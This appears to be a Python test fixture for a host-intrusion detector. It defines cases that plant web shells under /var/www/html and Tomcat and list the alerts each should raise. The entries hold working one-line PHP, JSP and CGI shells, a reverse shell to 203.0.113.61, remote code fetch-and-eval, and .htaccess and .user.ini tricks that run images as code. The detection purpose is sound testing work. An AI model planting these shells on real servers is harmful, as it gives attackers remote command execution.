"""Scripts and programs left below web roots (ATT&CK T1505.003). Their texts do nothing unless a web server runs them."""

from __future__ import annotations

from tests.behaviours.behaviour import Behaviour

ROOT = "/var/www/html"

BEHAVIOURS = (
    Behaviour(
        name="web_shell_runs_what_is_asked",
        techniques=("T1505.003", "T1059"),
        does="A script of one line hands what the request brings to a shell.",
        marks=(f"{ROOT}/about.php",),
        raises=("web_script_runs_what_request_brings",),
        files={f"{ROOT}/about.php": "<?php system($_GET['c']); ?>\n"},
    ),
    Behaviour(
        name="web_shell_evaluates_posted_code",
        techniques=("T1505.003", "T1059"),
        does="A script evaluates the code that is posted to it.",
        marks=(f"{ROOT}/inc/footer.php",),
        raises=("web_script_runs_what_request_brings",),
        files={f"{ROOT}/inc/footer.php": "<?php @eval($_POST['footer']); ?>\n"},
    ),
    Behaviour(
        name="web_shell_in_upload_directory",
        techniques=("T1505.003",),
        does="The web server itself wrote a script that starts programs into the directory for uploads.",
        marks=(f"{ROOT}/uploads/2026/a.php",),
        raises=("web_script_in_upload_directory_has_power",),
        files={f"{ROOT}/uploads/2026/a.php": "<?php $k = 'uname -a'; echo shell_exec($k); ?>\n"},
        shell=f"chown -R 33:33 {ROOT}/uploads/2026",
    ),
    Behaviour(
        name="web_shell_disguised_as_picture",
        techniques=("T1505.003", "T1036.008"),
        does="A file that servers take for a script, by the first of its endings, looks like a picture by the last.",
        marks=(f"{ROOT}/img/logo.php.png",),
        raises=("web_script_disguised_as_picture",),
        files={f"{ROOT}/img/logo.php.png": "GIF89a<?php $f = 'x'; echo shell_exec('id'); ?>\n"},
    ),
    Behaviour(
        name="web_shell_decodes_itself",
        techniques=("T1505.003", "T1027", "T1140"),
        does="A script keeps its code in a long text in base64.",
        marks=(f"{ROOT}/cache.php",),
        raises=("web_script_runs_decoded_code", "web_script_small_runs_decoded_text"),
        files={f"{ROOT}/cache.php": "<?php eval(base64_decode('" + "ZWNobyAneCc7" * 120 + "')); ?>\n"},
    ),
    Behaviour(
        name="web_shell_connects_back",
        techniques=("T1505.003", "T1059", "T1095"),
        does="A script connects a shell to a distant machine.",
        marks=(f"{ROOT}/status.php",),
        raises=("web_script_connects_shell",),
        files={
            f"{ROOT}/status.php": "<?php\n$s = fsockopen('203.0.113.61', 443);\n"
            "$p = proc_open('/bin/sh', array($s, $s, $s), $pipes);\n"
        },
    ),
    Behaviour(
        name="web_shell_hidden",
        techniques=("T1505.003", "T1564.001"),
        does="A script lies in a directory whose name begins with a dot.",
        marks=(f"{ROOT}/.thumbs/view.php",),
        raises=("web_script_hidden",),
        files={f"{ROOT}/.thumbs/view.php": "<?php echo 'ok'; ?>\n"},
    ),
    Behaviour(
        name="web_shell_in_java",
        techniques=("T1505.003",),
        does="A page of a Java server starts the program that the request names.",
        marks=("/var/lib/tomcat9/webapps/ROOT/help.jsp",),
        raises=("web_script_java_starts_programs",),
        files={
            "/var/lib/tomcat9/webapps/ROOT/help.jsp": '<%@ page import="java.util.*" %>\n'
            '<% String c = request.getParameter("q"); Process p = Runtime.getRuntime().exec(c); %>\n'
        },
    ),
    Behaviour(
        name="program_below_web_root",
        techniques=("T1505.003", "T1105"),
        does="A compiled program lies below the web root.",
        marks=(f"{ROOT}/js/jquery",),
        raises=("file_elf_web_root",),
        shell=f"mkdir -p {ROOT}/js; cp /bin/true {ROOT}/js/jquery",
    ),
    Behaviour(
        name="web_shell_in_two_steps",
        techniques=("T1505.003",),
        does="A short script decodes what a cookie brings and hands it to a shell.",
        marks=(f"{ROOT}/lang.php",),
        raises=("web_script_small_with_power",),
        files={f"{ROOT}/lang.php": "<?php $c = $_COOKIE['c']; $d = base64_decode($c); system($d);\n"},
    ),
    Behaviour(
        name="web_shell_unpacks_a_short_text",
        techniques=("T1505.003", "T1140"),
        does="A short script unpacks a text and evaluates it.",
        marks=(f"{ROOT}/stat.php",),
        raises=("web_script_small_runs_decoded_text",),
        files={f"{ROOT}/stat.php": "<?php eval(gzinflate(base64_decode('S03OyFdIzs8tKEotLk5NAQA=')));\n"},
    ),
    Behaviour(
        name="web_shell_in_python",
        techniques=("T1505.003",),
        does="A script of the server's interface for programs starts what the request names.",
        marks=("/usr/lib/cgi-bin/probe.py",),
        raises=("web_script_small_with_power",),
        files={
            "/usr/lib/cgi-bin/probe.py": "#!/usr/bin/python3\nimport cgi, os\nf = cgi.FieldStorage()\nprint(os.popen(f['c'].value).read())\n"
        },
        modes={"/usr/lib/cgi-bin/probe.py": 0o755},
    ),
    Behaviour(
        name="web_script_fetches_its_code",
        techniques=("T1505.003", "T1105"),
        does="A script evaluates what it fetches from elsewhere.",
        marks=(f"{ROOT}/feed.php",),
        raises=("web_script_evaluates_download",),
        files={f"{ROOT}/feed.php": "<?php eval(file_get_contents('http://203.0.113.62/x'));\n"},
    ),
    Behaviour(
        name="web_script_runs_file_of_request",
        techniques=("T1505.003", "T1190"),
        does="A script runs the file whose name comes with the request.",
        marks=(f"{ROOT}/page.php",),
        raises=("web_script_request_names_file",),
        files={f"{ROOT}/page.php": "<?php include $_GET['p'];\n"},
    ),
    Behaviour(
        name="web_script_writes_file_of_request",
        techniques=("T1505.003", "T1190"),
        does="A script writes what the request brings to where it says.",
        marks=(f"{ROOT}/save.php",),
        raises=("web_script_request_names_file",),
        files={f"{ROOT}/save.php": "<?php file_put_contents($_GET['f'], $_POST['d']);\n"},
    ),
    Behaviour(
        name="web_server_runs_pictures_as_code",
        techniques=("T1505.003", "T1036.008"),
        does="A setting in a directory makes the server run pictures as scripts.",
        marks=(f"{ROOT}/gallery/.htaccess",),
        raises=("file_php_runs_code_before_pages",),
        files={f"{ROOT}/gallery/.htaccess": "AddType application/x-httpd-php .png\n"},
    ),
    Behaviour(
        name="web_server_runs_file_before_every_script",
        techniques=("T1505.003", "T1036.008"),
        does="A setting makes the server run a file from /tmp before every script.",
        marks=(f"{ROOT}/shop/.user.ini",),
        raises=("file_php_runs_code_before_pages",),
        files={f"{ROOT}/shop/.user.ini": "auto_prepend_file=/tmp/sess_x.jpg\n"},
    ),
    Behaviour(
        name="password_hashes_in_web_root",
        techniques=("T1003.008", "T1074.001"),
        does="A copy of the password hashes waits below the web root.",
        marks=(f"{ROOT}/shadow.bak",),
        raises=("file_password_file_copied",),
        files={f"{ROOT}/shadow.bak": "root:$6$abcdefgh$abcdefghijkl:19000:0:99999:7:::\n"},
    ),
)
